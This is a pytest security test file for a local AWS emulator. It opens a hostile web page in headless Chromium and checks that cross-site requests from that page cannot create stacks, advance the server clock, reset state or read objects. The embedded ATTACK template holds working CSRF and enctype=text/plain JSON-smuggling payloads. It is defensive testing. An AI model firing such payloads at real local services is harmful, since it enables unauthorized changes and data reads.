"""A web page of somebody else's, opened in a real browser beside a running server: what it can make the browser send.

The page comes from ``localhost`` and the server is ``127.0.0.1``: to a browser that is another site.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from localaws.server import Server
from tests.functional.server_process import session
from tests.security.test_unsigned import CREDENTIAL, TEMPLATE
from tests.shared_server import DEV, REGION, secret_of

BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
pytestmark = pytest.mark.skipif(BROWSER is None, reason="there is no Chromium on this machine")

ATTACK = """<!doctype html><title>kittens</title><iframe name=hidden hidden></iframe>
<form id=form method=post target=hidden action="{server}/?{credential}"><input name=Action value=CreateStack>
<input name=Version value=2010-05-15><input name=StackName value="{name}-form">
<input name=TemplateBody value='{template}'></form>
<form id=clock method=post enctype=text/plain target=hidden action="{server}/_localaws/clock">
<input name='{{"advance_seconds": 86400, "x": "' value='"}}'></form>
<form id=reset method=post target=hidden action="{server}/moto-api/reset"></form>
<script>
const image = (url) => new Promise((done) => {{
  const it = new Image(); it.onload = it.onerror = () => done("sent"); it.src = url; }});
const submit = (id) => new Promise((done) => {{
  document.querySelector("iframe").onload = () => done("sent");
  document.getElementById(id).submit(); }});
const read = (url, how) => fetch(url, how).then((it) => it.text()).then((it) => "read: " + it, () => "unread");
const query = new URLSearchParams({{Action: "CreateStack", Version: "2010-05-15", StackName: "{name}-image"}});
query.set("TemplateBody", '{template}');
const target = {{"X-Amz-Target": "SageMaker.ListModels"}};
(async () => {{
  const found = {{}};
  found.image = await image(`{server}/?${{query}}&{credential}`);
  for (const id of ["form", "clock", "reset"]) found[id] = await submit(id);
  found.health = await read("{server}/_localaws/health");
  found.object = await read("{server}/{bucket}/a.txt");
  found.presigned = await read("{presigned}");
  found.opaque = await fetch("{server}/moto-api/reset", {{method: "POST", mode: "no-cors"}})
    .then((it) => it.type, () => "unsent");
  found.json = await read("{server}/", {{method: "POST", headers: target, body: "{{}}"}});
  return found;
}})().catch((error) => ({{error: String(error)}}))
  .then((found) => fetch("/report", {{method: "POST", body: JSON.stringify(found)}}));
</script>"""


class Site:
    """Somebody else's web site: one page, which reports what came of it."""

    def __init__(self, page: str) -> None:
        self.reported = threading.Event()
        self.report: dict[str, str] = {}
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.end_headers()
                self.wfile.write(page.encode())

            def do_POST(self) -> None:
                site.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(204)
                self.end_headers()
                site.reported.set()

            def log_message(self, *_: Any) -> None: ...

        self._http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://localhost:{self._http.server_port}/"
        threading.Thread(target=self._http.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._http.shutdown()
        self._http.server_close()


@pytest.fixture
def visit(tmp_path: Path) -> Iterator[Callable[[str], dict[str, str]]]:
    """Open a page in a browser of its own; what the page reports."""
    running: list[subprocess.Popen[bytes]] = []
    sites: list[Site] = []

    def open_page(page: str) -> dict[str, str]:
        site = Site(page)
        sites.append(site)
        options = ["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", f"--user-data-dir={tmp_path}"]
        # A machine's own permission prompt would stop the page before it reaches anything; the server must do without.
        options += ["--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests"]
        # One that stays open until it is ended.
        options += ["--remote-debugging-port=0"]
        command = [str(BROWSER), *options, site.url]
        running.append(subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        assert site.reported.wait(120), "the page did not run to its end"
        return site.report

    yield open_page
    for process in running:
        process.terminate()
        process.wait(20)
    for site in sites:
        site.close()


def attack(server: Server, bucket: str, name: str) -> str:
    keys = session(REGION, aws_access_key_id=DEV, aws_secret_access_key=secret_of(server, DEV))
    s3 = keys.client("s3", endpoint_url=server.endpoint_url)
    presigned = s3.generate_presigned_url("get_object", {"Bucket": bucket, "Key": "a.txt"})
    values = {"server": server.endpoint_url, "name": name, "bucket": bucket, "presigned": presigned}
    return ATTACK.format(**values, credential=CREDENTIAL, template=TEMPLATE)


def test_a_web_page_starts_nothing_reads_nothing_and_resets_nothing(
    server: Server, client: Callable[..., Any], bucket: str, unique: str, visit: Callable[[str], dict[str, str]]
) -> None:
    before = server.cloud.clock.now()
    report = visit(attack(server, bucket, unique))
    assert "error" not in report, report
    # It did send them: a browser lets a page send what it may not read.
    assert {report[name] for name in ("image", "form", "clock", "reset")} == {"sent"}
    assert report["opaque"] in ("opaque", "unsent")
    assert {name: report[name] for name in ("health", "object", "presigned", "json")} == dict.fromkeys(
        ("health", "object", "presigned", "json"), "unread"
    )
    stacks = client("cloudformation").describe_stacks()["Stacks"]
    assert not [each for each in stacks if each["StackName"].startswith(unique)]
    assert (server.cloud.clock.now() - before).total_seconds() < 3600
    assert client("s3").head_object(Bucket=bucket, Key="a.txt")["ContentLength"] == 7  # nothing was reset


def test_a_page_that_the_buckets_rules_name_reads_it(
    server: Server, client: Callable[..., Any], bucket: str, unique: str, visit: Callable[[str], dict[str, str]]
) -> None:
    rule = {"AllowedOrigins": ["http://localhost:*"], "AllowedMethods": ["GET"]}
    client("s3").put_bucket_cors(Bucket=bucket, CORSConfiguration={"CORSRules": [rule]})
    report = visit(attack(server, bucket, unique))
    assert report["presigned"] == "read: content"
    assert report["object"].startswith("read: <?xml")  # a refusal: it is no public object
    assert report["health"] == "unread"
